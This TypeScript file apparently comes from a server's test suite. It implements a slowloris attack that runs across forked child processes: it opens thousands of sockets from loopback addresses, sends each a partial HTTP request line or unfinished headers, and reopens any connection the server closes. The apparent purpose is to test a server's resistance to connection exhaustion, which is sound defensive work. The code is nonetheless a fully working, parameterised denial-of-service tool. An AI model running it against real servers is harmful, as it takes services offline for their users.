/**
 * A slowloris, in a child process of its own (`startSlowloris`): a test process cannot hold 20,000
 * sockets beside its server, whose descriptors are the very thing attacked. It keeps `perAddress`
 * connections open to the target from each of its local addresses (of 127.0.0.0/8), each sent a
 * partial request line or partial headers and then nothing; a connection that is closed is opened
 * again on the next round, about `roundMs` later, as slowloris does (each one on its own time, so
 * that the refusals do not all come back at once). Driven over the IPC channel: `start`, then
 * `report` (answered with its counts) as often as wanted, then `stop`.
 */
import { fork, type ChildProcess } from 'node:child_process';
import net from 'node:net';

export interface SlowlorisWork {
  host: string;
  port: number;
  addresses: string[];
  perAddress: number;
  roundMs: number;
}

export interface SlowlorisCounts {
  /** connections opened, first ones and again after a close */
  attempts: number;
  /** connected and not closed (some of them refused by the server, the reset not read yet) */
  connected: number;
  /** still connecting (their SYN waits in, or was dropped from, the server's full accept queue) */
  connecting: number;
  /** closed or reset by the server, or failed to connect */
  closes: number;
}

type Command = { type: 'start'; work: SlowlorisWork } | { type: 'report' } | { type: 'stop' };

/** what each connection sends before it stalls: half a request line, or headers that never end */
const STALLS = ['GET /api/config HTT', 'GET /api/config HTTP/1.1\r\nHost: escudo.test\r\nAccept: app'];

function attack(work: SlowlorisWork): { counts(): SlowlorisCounts; stop(): void } {
  const sockets = new Set<net.Socket>();
  const reopening = new Set<NodeJS.Timeout>();
  let attempts = 0;
  let closes = 0;
  let isStopped = false;

  function open(slot: number) {
    attempts += 1;
    const address = work.addresses[slot % work.addresses.length]!;
    const socket = net.connect({ host: work.host, port: work.port, localAddress: address });
    sockets.add(socket);
    socket.once('connect', () => socket.write(STALLS[slot % STALLS.length]!));
    socket.on('error', () => {});
    socket.once('close', () => {
      sockets.delete(socket);
      closes += 1;
      if (isStopped) return;
      const timer = setTimeout(
        () => {
          reopening.delete(timer);
          open(slot);
        },
        work.roundMs * (0.5 + Math.random()),
      );
      reopening.add(timer);
    });
  }

  for (let slot = 0; slot < work.addresses.length * work.perAddress; slot += 1) open(slot);
  return {
    counts() {
      const connecting = [...sockets].filter((socket) => socket.connecting).length;
      return { attempts, connected: sockets.size - connecting, connecting, closes };
    },
    stop() {
      isStopped = true;
      for (const timer of reopening) clearTimeout(timer);
      for (const socket of sockets) socket.destroy();
    },
  };
}

if (process.send && process.argv[2] === 'child') {
  let running: ReturnType<typeof attack> | null = null;
  process.on('message', (command: Command) => {
    if (command.type === 'start') running = attack(command.work);
    else if (command.type === 'report') process.send!({ type: 'counts', counts: running?.counts() });
    else {
      running?.stop();
      process.disconnect();
      process.exit(0);
    }
  });
}

export interface Slowloris {
  /** the counts of every child, once each has answered */
  counts(): Promise<SlowlorisCounts[]>;
  /** stops every child and resolves once they have exited */
  stop(): Promise<void>;
}

/** `work.addresses` spread over `processes` children, each attacking with its share */
export async function startSlowloris(work: SlowlorisWork, processes: number): Promise<Slowloris> {
  const children: ChildProcess[] = Array.from({ length: processes }, () =>
    fork(import.meta.filename, ['child'], { execArgv: ['--import', 'tsx'], stdio: 'inherit' }),
  );
  await Promise.all(
    children.map(
      (child) => new Promise((resolve, reject) => child.once('spawn', resolve).once('error', reject)),
    ),
  );
  children.forEach((child, i) => {
    const addresses = work.addresses.filter((_, j) => j % processes === i);
    child.send({ type: 'start', work: { ...work, addresses } } satisfies Command);
  });
  const exited = children.map((child) => new Promise<void>((resolve) => child.once('exit', () => resolve())));
  return {
    counts: () =>
      Promise.all(
        children.map(
          (child) =>
            new Promise<SlowlorisCounts>((resolve) => {
              child.once('message', (message: { counts: SlowlorisCounts }) => resolve(message.counts));
              child.send({ type: 'report' } satisfies Command);
            }),
        ),
      ),
    async stop() {
      for (const child of children) if (child.connected) child.send({ type: 'stop' } satisfies Command);
      // a child that does not stop in time is ended by its pid (it is ours)
      const late = setTimeout(() => children.forEach((child) => child.kill('SIGKILL')), 10_000);
      await Promise.all(exited);
      clearTimeout(late);
    },
  };
}
